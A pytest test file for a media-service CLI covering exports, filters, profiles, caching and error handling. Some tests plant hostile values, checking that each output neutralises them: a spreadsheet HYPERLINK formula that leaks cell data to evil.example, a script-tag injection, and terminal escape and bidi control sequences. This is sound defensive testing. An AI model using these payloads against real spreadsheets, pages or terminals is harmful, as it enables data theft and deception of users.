"""Every command reads the service through the library and writes through the safe writers."""

from __future__ import annotations

import json
import os
import re
import shutil

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from mediaframe.cli import main
from mediaframe.reports import read_parquet
from tests.cli.conftest import runner_for
from tests.safety.servers import answering, serving


def test_records_to_every_format_holds_every_visible_record(run, emulator, tmp_path):
    truth = len(emulator.ground_truth())
    for suffix in ("parquet", "csv", "xlsx", "json", "html"):
        result = run("records", "-o", str(tmp_path / f"r.{suffix}"))
        assert result.exit_code == 0, result.stderr
        assert f"Wrote {truth:,} row(s)" in result.stderr
    frame = read_parquet(tmp_path / "r.parquet")
    assert len(frame) == truth and frame.attrs["harvest"]["complete"]
    assert len(pd.read_csv(tmp_path / "r.csv")) == truth
    assert len(json.loads((tmp_path / "r.json").read_text())) == truth
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx", read_only=True)["records"]
    assert sheet.max_row == truth + 1
    page = (tmp_path / "r.html").read_text()
    assert emulator.base_url in page and "demo" in page  # provenance: server and user


def test_without_output_a_table_fits_the_terminal_and_says_what_it_left_out(run, emulator):
    result = run("records", "--limit", "5", COLUMNS="70")
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == 6 and lines[0].startswith("databox_id")
    assert max(map(len, lines)) <= 70
    assert f"Showing 5 of {len(emulator.ground_truth()):,} rows" in result.stderr
    assert "-o FILE" in result.stderr
    quiet = run("--quiet", "records", "--limit", "5")
    assert quiet.exit_code == 0 and quiet.stderr == ""


def test_every_search_filter_reaches_the_library(run, emulator, tmp_path):
    out = tmp_path / "f.parquet"
    result = run(
        "records", "--record-type", "image", "--since", "2019-01-01", "--until", "2021/12/31",
        "--base", "1", "--base", "2", "--sort", "created_on", "--order", "desc", "-o", str(out),
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    frame = read_parquet(out)
    truth = emulator.ground_truth()
    created = truth["created_on"]
    expected = truth[
        (truth["media_type"] == "image")
        & truth["base_id"].isin([1, 2])
        & (created >= pd.Timestamp("2019-01-01", tz="UTC"))
        & (created < pd.Timestamp("2022-01-01", tz="UTC"))
    ]
    assert len(frame) == len(expected) > 0
    assert frame["created_on"].is_monotonic_decreasing
    assert frame.attrs["harvest"]["filters"]["date_field"] == "created_on"


def test_status_and_field_options_are_parsed_and_checked(run, emulator, tmp_path):
    ok = run("records", "--status", "4:on:1", "--limit", "1")
    assert ok.exit_code == 0, ok.stderr
    bad = run("records", "--status", "four:on")
    assert bad.exit_code == 2 and "BIT:on|off:DATABOX" in bad.stderr
    bad_date = run("records", "--since", "2024-13-45")
    assert bad_date.exit_code == 2 and "--since" in bad_date.stderr
    assert len(bad_date.stderr.strip().splitlines()) == 1


def test_search_is_one_page_and_says_how_many_hits_there_are(run):
    result = run("search", "--per-page", "7", "--sort", "random", "--limit", "-1")
    assert result.exit_code == 0, result.stderr
    assert len(result.stdout.splitlines()) == 8
    assert "hits in all" in result.stderr
    stories = run("search", "--stories", "--per-page", "3")
    assert stories.exit_code == 0 and stories.stdout.startswith("databox_id  story_id")


@pytest.mark.parametrize(
    ("args", "first_column"),
    [
        (["facets"], "facet"),
        (["stories"], "databox_id"),
        (["feeds"], "id"),
        (["feed-entries"], "id"),
        (["feed-entries", "--offset", "0", "--per-page", "2"], "id"),
        (["feed-items"], "entry_id"),
        (["baskets"], "basket_id"),
        (["me", "--table", "collections"], "databox_id"),
        (["fields"], "databox_id"),
        (["story-records", "--limit", "3"], "story_databox_id"),
        (["basket-records"], "basket_id"),
        (["feed-items", "--extended"], "entry_id"),
    ],
)
def test_each_reading_command_shows_its_frame(run, args, first_column):
    result = run(*args)
    assert result.exit_code == 0, result.stderr
    assert result.stdout.split()[0] == first_column


def test_me_writes_its_four_tables_to_a_workbook_and_one_to_csv(run, tmp_path):
    result = run("me", "-o", str(tmp_path / "me.xlsx"))
    assert result.exit_code == 0, result.stderr
    names = openpyxl.load_workbook(tmp_path / "me.xlsx").sheetnames
    assert names == ["user", "collections", "statuses", "databoxes"]
    one = run("me", "-o", str(tmp_path / "me.csv"))
    assert one.exit_code == 1 and "one table" in one.stderr
    assert run("me", "--table", "statuses", "-o", str(tmp_path / "me.csv")).exit_code == 0


def test_extended_records_carry_captions_and_status_bits(run, tmp_path):
    out = tmp_path / "x.parquet"
    result = run("records", "--extended", "--base", "1", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    columns = set(read_parquet(out).columns)
    assert {"caption_Title", "status_4"} <= columns
    only = run("search", "--status", "4:on:1", "--status-only")
    assert only.exit_code == 2 and "records" in only.stderr


def test_an_unknown_extension_is_one_line_and_exit_1(run, tmp_path):
    result = run("records", "-o", str(tmp_path / "x.txt"))
    assert result.exit_code == 1
    assert result.stderr.strip().splitlines()[-1].startswith("Error: cannot tell the format")
    assert not (tmp_path / "x.txt").exists()


def test_a_revoked_token_exits_3_and_a_token_without_address_exits_2(fresh_emulator, tmp_path):
    emu = fresh_emulator()
    run = runner_for(emu, tmp_path)
    token = emu.token_for("demo")
    emu.revoke(token)
    revoked = run("feeds", MEDIAFRAME_TOKEN=token)
    assert revoked.exit_code == 3 and "log in again" in revoked.stderr.lower()
    nowhere = run("feeds", MEDIAFRAME_BASE_URL=None)
    assert nowhere.exit_code == 2 and "--base-url" in nowhere.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["--base-url", "http://[bad", "records", "--limit", "1"],
        ["--base-url", "http://127.0.0.1:99999", "whoami"],
        ["login", "--url", "http://[bad", "--token-stdin"],
        ["info"],  # the service URL from MEDIAFRAME_BASE_URL, shown as refused
    ],
    ids=["records", "whoami", "login", "info"],
)
def test_a_url_urllib_cannot_read_is_a_usage_error_not_a_traceback(run, tmp_path, args):
    result = run(*args, input="t0ken", MEDIAFRAME_BASE_URL="http://[bad")
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "cannot be read as a URL" in result.stderr + result.stdout
    assert result.exit_code == (0 if args == ["info"] else 2), result.output


def test_token_stdin_and_base_url_options_override_the_environment(emulator, tmp_path):
    run = runner_for(emulator, tmp_path, MEDIAFRAME_TOKEN=None, MEDIAFRAME_BASE_URL=None)
    before = run("--base-url", emulator.base_url, "--token-stdin", "whoami", input=emulator.token)
    assert before.exit_code == 0 and before.stdout.startswith("demo"), before.stderr
    after = run("baskets", "--base-url", emulator.base_url, "--token-stdin", input=emulator.token)
    assert after.exit_code == 0, after.stderr
    empty = run("baskets", "--base-url", emulator.base_url, "--token-stdin", input="")
    assert empty.exit_code == 2 and "standard input" in empty.stderr


def test_a_stored_profile_is_used_when_named(emulator, tmp_path):
    run = runner_for(emulator, tmp_path)
    login = run("login", "--url", emulator.base_url, "--token-stdin", "--profile", "work",
                input=emulator.token, MEDIAFRAME_TOKEN=None)  # fmt: skip
    assert login.exit_code == 0, login.stderr
    result = run("--profile", "work", "whoami", MEDIAFRAME_TOKEN=None, MEDIAFRAME_BASE_URL=None)
    assert result.exit_code == 0 and "[profile work]" in result.stdout
    # or by MEDIAFRAME_PROFILE, for a scheduler; --profile wins over it
    env = {"MEDIAFRAME_TOKEN": None, "MEDIAFRAME_BASE_URL": None, "MEDIAFRAME_PROFILE": "work"}
    by_env = run("records", "--limit", "1", **env)
    assert by_env.exit_code == 0 and "records of" in by_env.stderr, by_env.stderr
    other = run("records", "--profile", "home", **env)
    assert other.exit_code == 2 and "'home'" in other.stderr


def _commands_with_a_profile(group=main, path=()):
    for name, command in sorted(group.commands.items()):
        if hasattr(command, "commands"):
            yield from _commands_with_a_profile(command, (*path, name))
        elif any("--profile" in param.opts for param in command.params):
            yield " ".join((*path, name))


@pytest.mark.parametrize("command", list(_commands_with_a_profile()))
def test_two_different_profiles_are_refused_by_every_command(run, command):
    words = command.split()
    result = run("--profile", "a", *words, "--profile", "b")
    assert result.exit_code == 2, result.output
    assert "two profiles" in result.stderr and "--profile a" in result.stderr
    same = run("--profile", "a", *words, "--profile", "a")
    assert "two profiles" not in same.stderr


def _commands_with(option, group=main, path=()):
    for name, command in sorted(group.commands.items()):
        if hasattr(command, "commands"):
            yield from _commands_with(option, command, (*path, name))
        elif any(option in param.opts for param in command.params):
            yield " ".join((*path, name))


_A, _B = "https://a.example.org", "https://ada:pw@b.example.org/?oauth_token=s3cret-t0ken"


def _rest_of(command):
    """What a run of ``command`` needs besides the address: a token for login, else a limit
    where the command shows rows."""
    return {"login": ["--token-stdin"], "whoami": []}.get(command, ["--limit", "1"])


@pytest.mark.parametrize("command", list(_commands_with("--base-url")))
@pytest.mark.parametrize(
    "where",
    [
        ("--base-url", _A, "{}", "--base-url", _B),
        ("{}", "--base-url", _A, "--base-url", _B),
        ("--base-url", _A, "--base-url", _B, "{}"),
    ],
    ids=["before-and-after", "twice-after", "twice-before"],
)
def test_two_different_base_urls_are_refused_naming_both(run, command, where):
    words = command.split()
    args = [w for part in where for w in (words if part == "{}" else [part])]
    result = run(*args, *_rest_of(command), input="t0ken-from-stdin")
    assert result.exit_code == 2, result.output
    assert "two service addresses" in result.stderr, result.stderr
    assert _A in result.stderr and "https://***@b.example.org/?..." in result.stderr
    assert "s3cret-t0ken" not in result.output and "pw@" not in result.output


@pytest.mark.parametrize("command", list(_commands_with("--base-url")))
def test_the_same_base_url_given_twice_is_taken(run, emulator, command):
    url = emulator.base_url
    result = run("--base-url", url, *command.split(), "--base-url", url, "--base-url", url,
                 *_rest_of(command), input=emulator.token)  # fmt: skip
    assert "two service addresses" not in result.stderr
    assert result.exit_code == 0, result.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["--profile", "a", "--profile", "b", "feeds"],
        ["feeds", "--profile", "a", "--profile", "b"],
        ["login", "--url", _A, "--url", _B, "--token-stdin"],
        ["--base-url", _A, "login", "--url", _B, "--token-stdin"],
    ],
    ids=["profile-twice-before", "profile-twice-after", "login-url-twice", "login-url-and-base"],
)
def test_a_repeated_connection_option_with_two_values_is_refused(run, args):
    result = run(*args, input="t0ken-from-stdin")
    assert result.exit_code == 2, result.output
    assert "two " in result.stderr and "give one" in result.stderr
    assert "s3cret-t0ken" not in result.output and "pw@" not in result.output


def test_sync_fetches_only_what_changed(fresh_emulator, tmp_path):
    emu = fresh_emulator(records=400, cap=100)
    run = runner_for(emu, tmp_path)
    first = run("sync")
    assert first.exit_code == 0 and "Harvested" in first.stdout, first.stderr
    key = emu.ground_truth().iloc[0]
    emu.update_record(int(key["databox_id"]), int(key["record_id"]), title="Renamed")
    second = run("sync", "-o", str(tmp_path / "synced.parquet"))
    assert second.exit_code == 0, second.stderr
    assert "Synced: " in second.stdout and " 0 removed" in second.stdout
    synced = read_parquet(tmp_path / "synced.parquet")
    assert (synced["title"] == "Renamed").sum() == 1


def test_cache_ls_shows_each_harvest_and_clear_removes_them(run, tmp_path):
    assert run("records", "sunset", "--limit", "1").exit_code == 0
    assert run("stories", "--limit", "1").exit_code == 0
    listing = run("cache", "ls", "--limit", "-1")
    assert listing.exit_code == 0, listing.stderr
    assert "2 cached harvest(s)" in listing.stderr
    assert "sunset" in listing.stdout and "stories" in listing.stdout
    out = tmp_path / "cache.csv"
    assert run("cache", "ls", "-o", str(out)).exit_code == 0
    keys = pd.read_csv(out)["key"].tolist()
    gone = run("cache", "clear", "--key", keys[0], "--yes")
    assert gone.exit_code == 0 and "Removed 1" in gone.stdout
    refused = run("cache", "clear", input="n\n")
    assert refused.exit_code == 1 and "1 cached harvest" in refused.stderr
    assert run("cache", "clear", "--yes").exit_code == 0
    assert "0 cached harvest(s)" in run("cache", "ls").stderr


def test_info_names_folders_profiles_and_hides_the_token(run, emulator, tmp_path):
    run(
        "login", "--url", emulator.base_url, "--token-stdin", "--profile", "p", input=emulator.token
    )
    result = run("info")
    assert result.exit_code == 0, result.stderr
    assert "mediaframe 0." in result.stdout and str(tmp_path / "cache") in result.stdout
    assert f"p: {emulator.base_url}" in result.stdout
    assert "MEDIAFRAME_TOKEN set (hidden)" in result.stdout
    # a password inside MEDIAFRAME_BASE_URL is not printed: info says the URL will be refused
    leaky = run("info", MEDIAFRAME_BASE_URL="https://ada:s3cret-pw@assets.example.org")
    assert leaky.exit_code == 0, leaky.stderr
    assert "s3cret-pw" not in leaky.stdout and "ada" not in leaky.stdout
    assert "MEDIAFRAME_BASE_URL=https://***@assets.example.org (refused:" in leaky.stdout
    for url in (
        "ada:s3cret-pw@assets.example.org",
        "https://assets.example.org/?oauth_token=s3cret-pw",
    ):
        shown = run("info", MEDIAFRAME_BASE_URL=url)
        assert shown.exit_code == 0, shown.stderr
        assert "s3cret-pw" not in shown.stdout and "(refused:" in shown.stdout


def test_a_hostile_title_from_the_server_is_neutralised_in_every_output(fresh_emulator, tmp_path):
    emu = fresh_emulator(records=200, cap=1000)
    run = runner_for(emu, tmp_path)
    truth = emu.ground_truth()
    hostile = '=HYPERLINK("http://evil.example/?"&A1)<script>alert(1)</script>'
    emu.update_record(int(truth["databox_id"][0]), int(truth["record_id"][0]), title=hostile)
    emu.update_record(int(truth["databox_id"][1]), int(truth["record_id"][1]), title="\x1b[2Jx")
    shown = run("records", "--limit", "-1", COLUMNS="400")
    assert shown.exit_code == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\N{REPLACEMENT CHARACTER}[2J" in shown.stdout
    assert run("records", "-o", str(tmp_path / "r.csv")).exit_code == 0
    assert "'=HYPERLINK" in (tmp_path / "r.csv").read_text()
    assert run("records", "-o", str(tmp_path / "r.xlsx")).exit_code == 0
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["records"]
    cells = [c for c in sheet["H"] if c.value and str(c.value).startswith("=HYPERLINK")]
    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].quotePrefix
    assert run("records", "-o", str(tmp_path / "r.html")).exit_code == 0
    page = (tmp_path / "r.html").read_text()
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)" in page


def test_a_lying_servers_error_cannot_drive_the_terminal(tmp_path):
    # A server's error text reaches the one-line error on stderr: escape sequences in it could
    # set the window title, plant a hyperlink or clear the screen; C1 controls too.
    hostile = {
        "meta": {
            "http_code": 400,
            "error_type": "Bad\x1b]0;PWNED\x07Request",
            "error_message": "one\ntwo\x9b31m\x1b[2J",
            "error_details": "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07",
            "response": {},
        },
        "response": {},
    }
    body = json.dumps(hostile).encode()
    with serving(answering("400 Bad Request", body)) as base_url:
        result = CliRunner().invoke(
            main,
            ["me"],
            env={
                "MEDIAFRAME_BASE_URL": base_url,
                "MEDIAFRAME_TOKEN": "abcdef0123456789",
                "MEDIAFRAME_CONFIG_DIR": str(tmp_path / "config"),
                "MEDIAFRAME_CACHE_DIR": str(tmp_path / "cache"),
                "MEDIAFRAME_RETRIES": "0",
                "MEDIAFRAME_PROFILE": None,
            },
        )
    assert result.exit_code == 1, result.stderr
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", result.stderr), repr(result.stderr)
    assert "PWNED" in result.stderr and "click" in result.stderr  # shown, made inert


def test_a_lying_servers_user_name_cannot_drive_the_terminal(tmp_path):
    # bidi controls too: U+202E could make the line read otherwise
    user = {"id": 1, "login": "ada\x1b]0;PWNED\x07", "display_name": "A\x9b2J\u202e", "email": None}
    body = json.dumps({"meta": {"http_code": 200}, "response": {"user": user}}).encode()
    env = {
        "MEDIAFRAME_BASE_URL": "",
        "MEDIAFRAME_TOKEN": "abcdef0123456789",
        "MEDIAFRAME_CONFIG_DIR": str(tmp_path / "config"),
        "MEDIAFRAME_PROFILE": None,
    }
    with serving(answering("200 OK", body)) as base_url:
        env["MEDIAFRAME_BASE_URL"] = base_url
        plain = CliRunner().invoke(main, ["whoami"], env=env)
        as_json = CliRunner().invoke(main, ["whoami", "--json"], env=env)
    assert plain.exit_code == 0 and as_json.exit_code == 0, plain.stderr + as_json.stderr
    for shown in (plain.stdout, as_json.stdout):
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", shown), repr(shown)
    assert json.loads(as_json.stdout) == user  # the JSON still says exactly what the server did


def test_ttl_takes_durations_as_people_write_them(run, tmp_path):
    assert run("records", "--ttl", "1h", "-o", str(tmp_path / "a.parquet")).exit_code == 0
    for ttl in ("30min", "3600", "2 days"):
        again = run("records", "--ttl", ttl, "-o", str(tmp_path / "b.parquet"))
        assert again.exit_code == 0, again.stderr
        assert read_parquet(tmp_path / "b.parquet").attrs["harvest"]["from_cache"], ttl
    wrong = run("records", "--ttl", "soon")
    assert wrong.exit_code == 2 and "--ttl 'soon' is not a duration" in wrong.stderr
    assert run("audit", "--ttl", "1h").exit_code == 0


def test_ctrl_c_ends_a_command_with_one_line_and_exit_130(tmp_path):
    # a scheduler or a user interrupting a slow call: no traceback, the documented exit code
    import functools
    import signal
    import subprocess
    import sys
    import threading
    from pathlib import Path

    from tests.safety.servers import drip

    arrived, dripping = threading.Event(), drip(byte_every=0.2, total=200)

    def behave(sock):
        arrived.set()  # the command is inside its call, waiting on the answer
        dripping(sock)

    command = [str(Path(sys.executable).parent / "mediaframe"), "me"]
    with serving(behave) as base_url:
        env = {
            **os.environ,
            "MEDIAFRAME_BASE_URL": base_url,
            "MEDIAFRAME_TOKEN": "abcdef0123456789",
            "MEDIAFRAME_CONFIG_DIR": str(tmp_path / "config"),
            "MEDIAFRAME_TIMEOUT": "60",
        }
        env.pop("MEDIAFRAME_PROFILE", None)
        # a shell without job control starts background jobs with SIGINT ignored, and a child
        # inherits that: give it the default disposition, as a terminal would
        restore = functools.partial(signal.signal, signal.SIGINT, signal.SIG_DFL)
        with subprocess.Popen(
            command, env=env, stderr=subprocess.PIPE, text=True, preexec_fn=restore
        ) as proc:
            assert arrived.wait(60), "the command never called the server"
            proc.send_signal(signal.SIGINT)
            stderr = proc.stderr.read()
            assert proc.wait(timeout=30) == 130, stderr
    assert stderr == "Interrupted.\n"


@pytest.mark.parametrize(
    ("name", "says"),
    [("x.txt", "cannot tell the format"), ("missing/x.csv", "does not exist")],
)
def test_an_output_that_cannot_be_written_is_refused_before_any_harvest(run, tmp_path, name, says):
    result = run("records", "-o", str(tmp_path / name))
    assert result.exit_code == 1
    # one line, the error: no harvest ran first only to be thrown away
    assert result.stderr.strip().splitlines() == [result.stderr.strip()]
    assert result.stderr.startswith("Error: ") and says in result.stderr
    assert not (tmp_path / "cache").exists() or not any((tmp_path / "cache").rglob("*.parquet"))


def test_an_html_export_of_a_wide_table_says_how_many_rows_the_page_left_out(tmp_path, capsys):
    import numpy as np
    import pandas as pd

    from mediaframe.cli.app import State, emit

    wide = pd.DataFrame(np.zeros((300, 5_000), dtype="int8"))
    emit(State(), {"wide": wide}, tmp_path / "wide.html")
    said = capsys.readouterr().err
    assert "Wrote 300 row(s)" in said and "100 left out" in said


#: Every command whose -o writes one file, with what it needs to write a single table.
_WRITERS = {
    "records": [],
    "stories": [],
    "facets": [],
    "search": [],
    "sync": [],
    "me": ["--table", "collections"],
    "feeds": [],
    "baskets": [],
    "feed-items": [],
    "feed-entries": [],
    "fields": [],
    "story-records": [],
    "basket-records": [],
    "cache ls": [],
}


def _file_writers(group=main, path=()):
    for name, command in sorted(group.commands.items()):
        if name == "emulator":  # the emulator's own product: its ground truth, parquet only
            continue
        if hasattr(command, "commands"):
            yield from _file_writers(command, (*path, name))
        elif any(
            "--output" in param.opts and not getattr(param.type, "dir_okay", True)
            for param in command.params
        ):
            yield " ".join((*path, name))


def test_the_compressed_output_test_covers_every_command_writing_one_file():
    assert sorted(_file_writers()) == sorted(_WRITERS)


@pytest.mark.parametrize("command", sorted(_WRITERS))
def test_every_command_writes_a_file_compressed_as_its_name_says(run, tmp_path, command):
    words = command.split()
    plain = run(*words, *_WRITERS[command], "-o", str(tmp_path / "plain.csv"))
    assert plain.exit_code == 0, plain.stderr
    packed = run(*words, *_WRITERS[command], "-o", str(tmp_path / "packed.csv.gz"))
    assert packed.exit_code == 0, packed.stderr
    with open(tmp_path / "packed.csv.gz", "rb") as file:
        assert file.read(2) == b"\x1f\x8b"  # gzip's magic: compressed, not plain text so named
    expected = pd.read_csv(tmp_path / "plain.csv")
    if command == "cache ls":  # the listing's ages move on between the two runs
        expected = expected.drop(columns="age")
    back = pd.read_csv(tmp_path / "packed.csv.gz")
    pd.testing.assert_frame_equal(back[expected.columns], expected)


@pytest.mark.parametrize(
    "name", ["r.csv.gz", "r.csv.zip", "r.csv.bz2", "r.csv.xz", "r.csv.tar.gz", "r.CSV.GZ"]
)
def test_records_compressed_as_csv_read_back_whole(run, emulator, tmp_path, name):
    result = run("records", "-o", str(tmp_path / name))
    assert result.exit_code == 0, result.stderr
    assert f"Wrote {len(emulator.ground_truth()):,} row(s)" in result.stderr
    back = pd.read_csv(tmp_path / name)
    assert len(back) == len(emulator.ground_truth())
    assert set(back["record_id"]) == set(emulator.ground_truth()["record_id"])


@pytest.mark.parametrize("name", ["r.json.gz", "r.json.bz2", "r.json.xz", "r.json.zip"])
def test_records_compressed_as_json_read_back_whole(run, emulator, tmp_path, name):
    result = run("records", "-o", str(tmp_path / name))
    assert result.exit_code == 0, result.stderr
    back = pd.read_json(tmp_path / name)
    assert len(back) == len(emulator.ground_truth())


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("r.parquet.gz", "parquet compresses itself"),
        ("r.xlsx.gz", ".xlsx is not compressed"),
        ("r.gz", "cannot tell the format"),
    ],
)
def test_a_compression_a_format_cannot_take_is_refused_before_any_harvest(
    run, tmp_path, name, says
):
    result = run("records", "-o", str(tmp_path / name))
    assert result.exit_code == 1 and says in result.stderr, result.stderr
    assert ".csv.gz" in result.stderr  # what to write instead
    assert not (tmp_path / name).exists()


def test_a_refused_search_leaves_no_folder_and_a_bare_one_is_still_listed(run, tmp_path):
    refused = run("records", "(sunset AND")
    assert refused.exit_code == 1 and refused.stderr.startswith("Error: "), refused.stderr
    assert run("records", "sunset", "--limit", "1").exit_code == 0
    listing = run("cache", "ls", "--limit", "-1")
    assert listing.exit_code == 0, listing.stderr
    assert "sunset" in listing.stdout
    assert "(unknown: nothing harvested)" not in listing.stdout, listing.stdout
    # a folder of lock files alone (a writer killed before its first request) is listed
    bare = tmp_path / "cache" / "records" / "0123456789abcdef0123"
    bare.mkdir()
    (bare / ".writer").touch()
    listing = run("cache", "ls", "--limit", "-1")
    assert listing.exit_code == 0, listing.stderr
    assert "(unknown: nothing harvested)" in listing.stdout, listing.stdout


def test_cache_ls_lists_a_damaged_harvest_as_damaged(run, tmp_path):
    assert run("records", "sunset", "--limit", "1").exit_code == 0
    (folder,) = (tmp_path / "cache" / "records").iterdir()
    (folder / "manifest.json").write_text("[1, 2]")
    listing = run("cache", "ls", "--limit", "-1")
    assert listing.exit_code == 0, listing.stderr
    assert "damaged" in listing.stdout, listing.stdout
    assert "nothing harvested" not in listing.stdout, listing.stdout
    assert f"harvest {folder.name} is damaged (the manifest should be an object" in listing.stderr
    assert f"cache clear --key {folder.name}" in listing.stderr
    # a dataset folder gone is no healthy harvest either
    (folder / "manifest.json").unlink()
    assert run("records", "sunset", "--limit", "1").exit_code == 0
    for data in folder.glob("data-*"):
        shutil.rmtree(data)
    listing = run("cache", "ls", "--limit", "-1")
    assert "sunset" in listing.stdout and "damaged" in listing.stdout, listing.stdout
    assert "dataset folder data-" in listing.stderr, listing.stderr


def test_a_base_url_whose_host_does_not_exist_fails_at_once_in_one_line(resolver, tmp_path):
    token = "0f" * 16
    env = {
        "MEDIAFRAME_TOKEN": token,
        "MEDIAFRAME_CONFIG_DIR": str(tmp_path / "config"),
        "MEDIAFRAME_CACHE_DIR": str(tmp_path / "cache"),
        "MEDIAFRAME_PROFILE": None,
        "MEDIAFRAME_RETRIES": "3",
        "MEDIAFRAME_BACKOFF": "0",
    }
    result = CliRunner().invoke(
        main, ["records", "--base-url", "https://dam.exampel.invalid", "sunset"], env=env
    )
    assert result.exit_code == 1, result.stderr
    assert resolver.lookups == ["dam.exampel.invalid"]  # asked once, not once per retry
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1, result.stderr
    assert "cannot resolve host dam.exampel.invalid" in result.stderr
    assert "base_url" in result.stderr and token not in result.stderr
